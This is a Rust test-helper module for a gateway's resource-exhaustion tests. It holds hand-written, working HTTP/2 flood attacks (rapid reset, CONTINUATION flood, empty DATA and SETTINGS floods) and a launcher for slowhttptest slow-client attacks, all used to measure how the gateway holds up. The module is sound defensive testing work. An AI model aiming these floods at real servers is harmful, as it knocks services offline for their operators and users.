//! Tools of the resource-exhaustion tests (`tests/tests/exhaustion.rs`): raw HTTP/2 frames over
//! TLS for the flood attacks (rapid reset, CONTINUATION, empty DATA, SETTINGS), `wrk` throughput
//! measured as medians of short runs, `slowhttptest` runs, slow clients, and `RLIMIT_NOFILE`.
//!
//! The HTTP/2 attacker writes frames by hand (a minimal HPACK encoder: static-table indices and
//! literals without indexing), so it can send what no well-behaved client library would: a
//! HEADERS frame followed by RST_STREAM at once, HEADERS without END_HEADERS and an endless
//! CONTINUATION, SETTINGS without ever reading the ACKs. A reader task parses what the server
//! answers and records a GOAWAY and the end of the connection.

use crate::edge::{Alpn, EdgeClient};
use std::{
    fs,
    path::Path,
    process::{Child, Command, Stdio},
    sync::{
        Arc,
        atomic::{AtomicBool, AtomicU64, Ordering},
    },
    time::{Duration, Instant},
};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

/// Raises this process's `RLIMIT_NOFILE` towards `n` (children inherit it): the soft limit up to
/// the hard one, and the hard one too when allowed (CAP_SYS_RESOURCE; containers often lack
/// it). Returns the soft limit now in force.
pub fn raise_nofile(n: u64) -> u64 {
    let mut lim = libc::rlimit { rlim_cur: 0, rlim_max: 0 };
    // SAFETY: getrlimit/setrlimit with a valid pointer to a local struct.
    unsafe {
        assert_eq!(libc::getrlimit(libc::RLIMIT_NOFILE, &mut lim), 0, "getrlimit");
        if lim.rlim_cur >= n {
            return lim.rlim_cur;
        }
        let want = libc::rlimit { rlim_cur: n, rlim_max: lim.rlim_max.max(n) };
        if libc::setrlimit(libc::RLIMIT_NOFILE, &want) == 0 {
            return n;
        }
        lim.rlim_cur = lim.rlim_max;
        assert_eq!(libc::setrlimit(libc::RLIMIT_NOFILE, &lim), 0, "setrlimit(RLIMIT_NOFILE)");
        lim.rlim_cur
    }
}

/// Runs the calling thread at the lowest CPU priority (`SCHED_IDLE`, and nice 19 where that is
/// refused). Attack clients and the attacker's own app call it: in a deployment they run on
/// other machines, while here they share two cores with the gateway, wrk and the victim's app,
/// and an attack tool's own CPU (slowhttptest alone takes up to a whole core to hold 1,000 slow
/// connections) would otherwise be counted as the gateway's cost. Nice 19 alone still let it
/// take a third of a core from them under load; an idle-class thread runs only on a core
/// nobody else wants and never preempts them. They still get every cycle the others leave;
/// figures report what they sent.
pub fn attacker_priority() {
    // SAFETY: gettid/setpriority/sched_setscheduler on the calling thread (Linux: the nice
    // value and the policy are per thread); a plain parameter struct.
    unsafe {
        let tid = libc::gettid();
        libc::setpriority(libc::PRIO_PROCESS, tid as libc::id_t, 19);
        let param = libc::sched_param { sched_priority: 0 };
        libc::sched_setscheduler(tid, libc::SCHED_IDLE, &param);
    }
}

/// Open file descriptors of a process (entries of /proc/PID/fd).
pub fn open_fds(pid: u32) -> usize {
    fs::read_dir(format!("/proc/{pid}/fd")).map(|d| d.count()).unwrap_or(0)
}

/// A TLS connection whose socket has a 4 KiB receive buffer (a slow reader's small TCP window).
pub async fn tls_small_window(
    client: &EdgeClient,
    host: &str,
    alpn: Alpn,
) -> std::io::Result<tokio_rustls::client::TlsStream<tokio::net::TcpStream>> {
    let sock = tokio::net::TcpSocket::new_v4()?;
    sock.set_recv_buffer_size(4096)?;
    let tcp = sock.connect(client.addr()).await?;
    let name =
        rustls_pki_types::ServerName::try_from(host.to_string()).map_err(|e| std::io::Error::other(e.to_string()))?;
    tokio_rustls::TlsConnector::from(client.tls_config(alpn)).connect(name, tcp).await
}

// ---------------------------------------------------------------------------------------------
// HTTP/2 frames

/// The client connection preface.
pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// Frame types.
pub mod kind {
    /// DATA
    pub const DATA: u8 = 0;
    /// HEADERS
    pub const HEADERS: u8 = 1;
    /// RST_STREAM
    pub const RST_STREAM: u8 = 3;
    /// SETTINGS
    pub const SETTINGS: u8 = 4;
    /// PING
    pub const PING: u8 = 6;
    /// GOAWAY
    pub const GOAWAY: u8 = 7;
    /// WINDOW_UPDATE
    pub const WINDOW_UPDATE: u8 = 8;
    /// CONTINUATION
    pub const CONTINUATION: u8 = 9;
}

/// END_STREAM (DATA, HEADERS), also ACK (SETTINGS, PING).
pub const END_STREAM: u8 = 0x1;
/// END_HEADERS (HEADERS, CONTINUATION).
pub const END_HEADERS: u8 = 0x4;

/// One frame: 24-bit length, type, flags, 31-bit stream id, payload.
pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = payload.len();
    assert!(len < 1 << 24, "frame too long");
    let mut out = Vec::with_capacity(9 + len);
    out.extend_from_slice(&[(len >> 16) as u8, (len >> 8) as u8, len as u8, kind, flags]);
    out.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    out.extend_from_slice(payload);
    out
}

/// A SETTINGS frame with these (identifier, value) pairs.
pub fn settings(pairs: &[(u16, u32)]) -> Vec<u8> {
    let mut payload = Vec::new();
    for (id, value) in pairs {
        payload.extend_from_slice(&id.to_be_bytes());
        payload.extend_from_slice(&value.to_be_bytes());
    }
    frame(kind::SETTINGS, 0, 0, &payload)
}

/// RST_STREAM with CANCEL (0x8).
pub fn rst_stream(stream: u32) -> Vec<u8> {
    frame(kind::RST_STREAM, 0, stream, &8u32.to_be_bytes())
}

/// An HPACK integer with an `n`-bit prefix; `flags` are the high bits of the first byte.
fn hpack_int(out: &mut Vec<u8>, flags: u8, n: u8, mut value: usize) {
    let max = (1usize << n) - 1;
    if value < max {
        out.push(flags | value as u8);
        return;
    }
    out.push(flags | max as u8);
    value -= max;
    while value >= 128 {
        out.push((value % 128 + 128) as u8);
        value /= 128;
    }
    out.push(value as u8);
}

fn hpack_str(out: &mut Vec<u8>, s: &[u8]) {
    hpack_int(out, 0, 7, s.len());
    out.extend_from_slice(s);
}

/// An HPACK header block: `:method` (GET/POST from the static table), `:scheme https`,
/// `:path`, `:authority`, then `extra` headers, all literals without indexing (the server's
/// dynamic table is never touched, so blocks can be repeated or sent out of order).
pub fn header_block(method: &str, authority: &str, path: &str, extra: &[(&str, &str)]) -> Vec<u8> {
    let mut out = Vec::new();
    match method {
        "GET" => out.push(0x82),
        "POST" => out.push(0x83),
        other => {
            hpack_int(&mut out, 0, 4, 2);
            hpack_str(&mut out, other.as_bytes());
        }
    }
    out.push(0x87); // :scheme https
    hpack_int(&mut out, 0, 4, 4); // :path, literal without indexing, name index 4
    hpack_str(&mut out, path.as_bytes());
    hpack_int(&mut out, 0, 4, 1); // :authority, name index 1
    hpack_str(&mut out, authority.as_bytes());
    for (name, value) in extra {
        out.push(0);
        hpack_str(&mut out, name.as_bytes());
        hpack_str(&mut out, value.as_bytes());
    }
    out
}

/// What the server did with an attacking connection.
#[derive(Debug, Default, Clone)]
pub struct H2Outcome {
    /// Frames the attacker wrote.
    pub frames_sent: u64,
    /// Bytes the attacker wrote (before TLS).
    pub bytes_sent: u64,
    /// The GOAWAY error code, if the server sent one.
    pub goaway: Option<u32>,
    /// RST_STREAM frames received.
    pub resets_received: u64,
    /// HEADERS frames received (responses).
    pub responses: u64,
    /// When the server closed (EOF or error) or sent GOAWAY, since the first write.
    pub ended_after: Option<Duration>,
    /// The server stopped reading: a write waited 5 s.
    pub stalled: bool,
}

/// Counters shared by an attack's reader and writer.
#[derive(Default)]
struct Seen {
    goaway: AtomicU64, // code + 1, 0 = none
    resets: AtomicU64,
    responses: AtomicU64,
    ended: AtomicBool,
    ended_at_ms: AtomicU64,
}

/// How to attack an HTTP/2 connection.
#[derive(Clone, Debug)]
pub enum H2Attack {
    /// HEADERS (GET, END_STREAM) immediately followed by RST_STREAM, on ever new stream ids.
    RapidReset,
    /// Rapid reset that lets the server start each request first: every batch resets the
    /// streams the previous batch opened (`pause` earlier), then opens as many new ones. h2's
    /// own limits (streams reset before they were accepted, or not yet released) rarely see these.
    ResetAfterAccept,
    /// One HEADERS without END_HEADERS, then CONTINUATION frames of junk header bytes, forever.
    ContinuationFlood,
    /// One POST stream left open, then empty DATA frames (no END_STREAM), forever.
    EmptyData,
    /// SETTINGS frames (each to be ACKed), forever, never reading the answers.
    SettingsFlood,
}

/// Runs one attacking connection for at most `limit`: TLS with ALPN h2 and SNI `host`, the
/// preface, then `attack` frames in batches of `batch` until the server ends the connection (or
/// GOAWAY), `limit` passes, or `stop` is set. Requests go to `https://{host}{path}` with the
/// `extra` headers (e.g. a token).
#[allow(clippy::too_many_arguments)]
pub async fn h2_attack(
    client: &EdgeClient,
    host: &str,
    path: &str,
    extra: &[(&str, &str)],
    attack: &H2Attack,
    (batch, pause): (usize, Duration),
    limit: Duration,
    stop: &AtomicBool,
) -> std::io::Result<H2Outcome> {
    let tls = if matches!(attack, H2Attack::SettingsFlood) {
        // A client that never reads, with a small receive buffer: the server's ACKs fill it soon.
        tls_small_window(client, host, Alpn::H2).await?
    } else {
        client.tls(host, Alpn::H2).await?
    };
    let (mut rd, mut wr) = tokio::io::split(tls);
    let seen = Arc::new(Seen::default());
    let started = Instant::now();
    let reader = {
        let seen = seen.clone();
        let read_slowly = matches!(attack, H2Attack::SettingsFlood);
        tokio::spawn(async move {
            let mut buf = Vec::new();
            let mut chunk = vec![0u8; 64 * 1024];
            loop {
                if read_slowly {
                    // The SETTINGS flooder reads nothing until the end: only wait for the close.
                    tokio::time::sleep(Duration::from_millis(50)).await;
                    if seen.ended.load(Ordering::Relaxed) {
                        return;
                    }
                    continue;
                }
                let n = match rd.read(&mut chunk).await {
                    Ok(0) | Err(_) => break,
                    Ok(n) => n,
                };
                buf.extend_from_slice(&chunk[..n]);
                while buf.len() >= 9 {
                    let len = (usize::from(buf[0]) << 16) | (usize::from(buf[1]) << 8) | usize::from(buf[2]);
                    if buf.len() < 9 + len {
                        break;
                    }
                    match buf[3] {
                        kind::GOAWAY if len >= 8 => {
                            let code = u32::from_be_bytes([buf[13], buf[14], buf[15], buf[16]]);
                            seen.goaway.store(u64::from(code) + 1, Ordering::Relaxed);
                            seen.ended_at_ms.store(started.elapsed().as_millis() as u64, Ordering::Relaxed);
                        }
                        kind::RST_STREAM => {
                            seen.resets.fetch_add(1, Ordering::Relaxed);
                        }
                        kind::HEADERS => {
                            seen.responses.fetch_add(1, Ordering::Relaxed);
                        }
                        _ => {}
                    }
                    buf.drain(..9 + len);
                }
            }
            if seen.ended_at_ms.load(Ordering::Relaxed) == 0 {
                seen.ended_at_ms.store(started.elapsed().as_millis().max(1) as u64, Ordering::Relaxed);
            }
            seen.ended.store(true, Ordering::Relaxed);
        })
    };

    let mut out = H2Outcome::default();
    let mut first = PREFACE.to_vec();
    first.extend(settings(&[(0x4, 65_535)]));
    first.extend(frame(kind::SETTINGS, END_STREAM, 0, &[])); // ACK of the server's SETTINGS
    let mut next_stream = 1u32;
    // ResetAfterAccept: the streams opened by the previous batch.
    let mut open_streams: Vec<u32> = Vec::new();
    match attack {
        H2Attack::ContinuationFlood => {
            let block = header_block("GET", host, path, extra);
            first.extend(frame(kind::HEADERS, 0, next_stream, &block));
        }
        H2Attack::EmptyData => {
            let block = header_block("POST", host, path, extra);
            first.extend(frame(kind::HEADERS, END_HEADERS, next_stream, &block));
        }
        _ => {}
    }
    out.frames_sent += 3;
    out.bytes_sent += first.len() as u64;
    let write_err = wr.write_all(&first).await.err();
    let junk: Vec<u8> = {
        let mut b = Vec::new();
        for i in 0..200 {
            b.push(0);
            hpack_str(&mut b, format!("x-junk-{i}").as_bytes());
            hpack_str(&mut b, &[b'a'; 64]);
        }
        b
    };
    if write_err.is_none() {
        while started.elapsed() < limit
            && !stop.load(Ordering::Relaxed)
            && seen.goaway.load(Ordering::Relaxed) == 0
            && !seen.ended.load(Ordering::Relaxed)
        {
            let mut bytes = Vec::with_capacity(batch * 64);
            let mut opened = Vec::new();
            for _ in 0..batch {
                match attack {
                    H2Attack::RapidReset => {
                        let block = header_block("GET", host, path, extra);
                        bytes.extend(frame(kind::HEADERS, END_STREAM | END_HEADERS, next_stream, &block));
                        bytes.extend(rst_stream(next_stream));
                        out.frames_sent += 2;
                        next_stream = next_stream.wrapping_add(2);
                        if next_stream >= 0x7fff_0000 {
                            break;
                        }
                    }
                    H2Attack::ResetAfterAccept => {
                        // Half a batch of resets (of the previous batch's streams), then half
                        // a batch of new streams.
                        if let Some(id) = open_streams.pop() {
                            bytes.extend(rst_stream(id));
                        } else {
                            let block = header_block("GET", host, path, extra);
                            bytes.extend(frame(kind::HEADERS, END_STREAM | END_HEADERS, next_stream, &block));
                            opened.push(next_stream);
                            next_stream = next_stream.wrapping_add(2);
                        }
                        out.frames_sent += 1;
                        if opened.len() * 2 >= batch || next_stream >= 0x7fff_0000 {
                            break;
                        }
                    }
                    H2Attack::ContinuationFlood => {
                        bytes.extend(frame(kind::CONTINUATION, 0, 1, &junk[..junk.len().min(8 * 1024)]));
                        out.frames_sent += 1;
                    }
                    H2Attack::EmptyData => {
                        bytes.extend(frame(kind::DATA, 0, 1, &[]));
                        out.frames_sent += 1;
                    }
                    H2Attack::SettingsFlood => {
                        bytes.extend(settings(&[(0x4, 65_535)]));
                        out.frames_sent += 1;
                    }
                }
            }
            open_streams = opened;
            out.bytes_sent += bytes.len() as u64;
            if !pause.is_zero() {
                tokio::time::sleep(pause).await;
            }
            match tokio::time::timeout(Duration::from_secs(5), wr.write_all(&bytes)).await {
                Ok(Ok(())) => {}
                Ok(Err(_)) => break,
                // The server stopped reading (back-pressure): that is an answer too.
                Err(_) => {
                    out.stalled = true;
                    break;
                }
            }
        }
    }
    // Give the reader a moment to see the GOAWAY / close that followed the last batch.
    let wait_until = Instant::now() + Duration::from_secs(3);
    while !seen.ended.load(Ordering::Relaxed) && seen.goaway.load(Ordering::Relaxed) == 0 && Instant::now() < wait_until
    {
        if started.elapsed() >= limit || stop.load(Ordering::Relaxed) {
            break;
        }
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    // (A server that stopped reading never takes the close_notify: do not wait for it.)
    let _ = tokio::time::timeout(Duration::from_millis(200), wr.shutdown()).await;
    reader.abort();
    let goaway = seen.goaway.load(Ordering::Relaxed);
    out.goaway = (goaway > 0).then(|| (goaway - 1) as u32);
    out.resets_received = seen.resets.load(Ordering::Relaxed);
    out.responses = seen.responses.load(Ordering::Relaxed);
    let ended = seen.ended_at_ms.load(Ordering::Relaxed);
    out.ended_after = (ended > 0).then(|| Duration::from_millis(ended));
    Ok(out)
}

// ---------------------------------------------------------------------------------------------
// wrk

/// Legitimate load: `wrk` with keep-alive through the HTTPS edge to `https://{https}{path}` with
/// `Host: host` and a bearer token.
pub struct Wrk {
    /// `host:port` of the HTTPS listener.
    pub https: std::net::SocketAddr,
    /// Host header (SNI is the listener's default certificate: wrk sends the URL's host).
    pub host: String,
    /// Bearer token.
    pub token: String,
    /// Request path.
    pub path: String,
    /// Script file (written once).
    pub script: std::path::PathBuf,
}

impl Wrk {
    /// Writes the wrk script into `dir`.
    pub fn new(https: std::net::SocketAddr, host: &str, token: &str, path: &str, dir: &Path) -> Wrk {
        let script = dir.join("wrk-load.lua");
        fs::write(
            &script,
            format!("wrk.headers[\"Host\"] = \"{host}\"\nwrk.headers[\"Authorization\"] = \"Bearer {token}\"\n"),
        )
        .expect("wrk script");
        Wrk { https, host: host.into(), token: token.into(), path: path.into(), script }
    }

    /// One run of `seconds`; requests per second (panics if wrk fails; non-2xx answers and
    /// socket errors are returned as the second value).
    pub fn run(&self, seconds: u32) -> (f64, String) {
        let out = Command::new("wrk")
            .args(["-t1", "-c8", &format!("-d{seconds}s"), "--timeout", "5s", "-s"])
            .arg(&self.script)
            .arg(format!("https://{}{}", self.https, self.path))
            .stdin(Stdio::null())
            .output()
            .expect("wrk (Debian package wrk; `cargo xtask setup` installs it)");
        let text = format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
        assert!(out.status.success(), "wrk failed:\n{text}");
        let rps = text
            .lines()
            .find_map(|l| l.trim().strip_prefix("Requests/sec:").and_then(|v| v.trim().parse::<f64>().ok()))
            .unwrap_or_else(|| panic!("no Requests/sec in:\n{text}"));
        let mut problems = String::new();
        for l in text.lines().filter(|l| l.contains("Socket errors") || l.contains("Non-2xx")) {
            problems.push_str(l.trim());
            problems.push('\n');
        }
        (rps, problems)
    }

    /// The median of `n` runs of `seconds` each.
    pub fn median(&self, n: usize, seconds: u32) -> (f64, Vec<f64>, String) {
        let mut all = Vec::new();
        let mut problems = String::new();
        for _ in 0..n {
            let (rps, p) = self.run(seconds);
            all.push(rps);
            problems.push_str(&p);
        }
        (median(&all), all, problems)
    }
}

/// The ratio of legitimate throughput under an attack to the throughput just before it.
#[derive(Debug, Clone)]
pub struct Ratio {
    /// Median req/s before.
    pub baseline: f64,
    /// Median req/s during.
    pub under: f64,
    /// Every run, before then during.
    pub runs: (Vec<f64>, Vec<f64>),
    /// wrk's complaints during the attack (socket errors, non-2xx).
    pub problems: String,
}

impl Ratio {
    /// under / baseline.
    pub fn ratio(&self) -> f64 {
        self.under / self.baseline
    }
}

/// The median of some measurements (the upper one of an even count).
fn median(v: &[f64]) -> f64 {
    let mut s = v.to_vec();
    s.sort_by(f64::total_cmp);
    s[s.len() / 2]
}

/// Measures `wrk` without and with an attack, interleaved: `runs` times, a run of `secs`
/// without, then `start()`, a short ramp-up, a run with, `stop(handle)`; the ratio of the
/// medians. Interleaving cancels the slow drifts of a shared machine (a build next door eating a
/// core for a minute); when the ratio is still under `want`, the whole measurement is repeated
/// (up to `attempts` times) and the best attempt returned: a gateway that really collapses under
/// the attack fails every attempt.
pub fn throughput_ratio<H>(
    wrk: &Wrk,
    runs: usize,
    secs: u32,
    want: f64,
    attempts: usize,
    mut start: impl FnMut() -> H,
    mut stop: impl FnMut(H),
) -> Ratio {
    let mut best: Option<Ratio> = None;
    for _ in 0..attempts {
        let (mut before, mut during, mut problems) = (Vec::new(), Vec::new(), String::new());
        for _ in 0..runs {
            before.push(wrk.run(secs).0);
            let handle = start();
            std::thread::sleep(Duration::from_millis(300));
            let (rps, p) = wrk.run(secs);
            stop(handle);
            during.push(rps);
            problems.push_str(&p);
        }
        let r = Ratio { baseline: median(&before), under: median(&during), runs: (before, during), problems };
        eprintln!(
            "throughput: baseline {:.0} req/s, under attack {:.0} req/s, ratio {:.2} {:?}",
            r.baseline,
            r.under,
            r.ratio(),
            r.runs
        );
        let better = best.as_ref().is_none_or(|b| r.ratio() > b.ratio());
        let done = r.ratio() >= want;
        if better {
            best = Some(r);
        }
        if done {
            break;
        }
    }
    best.expect("at least one attempt")
}

// ---------------------------------------------------------------------------------------------
// slowhttptest

/// Starts `slowhttptest` with these arguments (e.g. `-H -c 1000 ...`) against `url`; its output
/// goes to `log`.
pub fn slowhttptest(args: &[&str], url: &str, log: &Path) -> Child {
    // Run through nice and stdbuf, whose own start would succeed without it.
    assert!(
        Command::new("sh").args(["-c", "command -v slowhttptest"]).output().is_ok_and(|o| o.status.success()),
        "slowhttptest is missing (Debian package slowhttptest; `cargo xtask soak` installs it)"
    );
    // Appended to: a soak test restarts slowhttptest and reads the figures of every run.
    let out = fs::OpenOptions::new().create(true).append(true).open(log).expect("slowhttptest log");
    let err = out.try_clone().expect("log");
    // At the lowest priority, line-buffered (see `attacker_priority`; a killed run still leaves
    // its status lines in the log).
    Command::new("chrt")
        .args(["--idle", "0", "nice", "-n", "19", "stdbuf", "-oL", "slowhttptest"])
        .args(args)
        .args(["-u", url])
        .stdin(Stdio::null())
        .stdout(out)
        .stderr(err)
        .spawn()
        .expect("slowhttptest (Debian package slowhttptest; `cargo xtask soak` installs it)")
}

/// Samples the resident memory of `pid` every 100 ms until `stop`; the peak (KiB).
pub fn rss_sampler(pid: u32, stop: Arc<AtomicBool>) -> std::thread::JoinHandle<u64> {
    std::thread::spawn(move || {
        let mut peak = 0;
        while !stop.load(Ordering::Relaxed) {
            if let Ok(s) = fs::read_to_string(format!("/proc/{pid}/status"))
                && let Some(kib) = s
                    .lines()
                    .find_map(|l| l.strip_prefix("VmRSS:"))
                    .and_then(|v| v.trim().trim_end_matches("kB").trim().parse::<u64>().ok())
            {
                peak = peak.max(kib);
            }
            std::thread::sleep(Duration::from_millis(100));
        }
        peak
    })
}
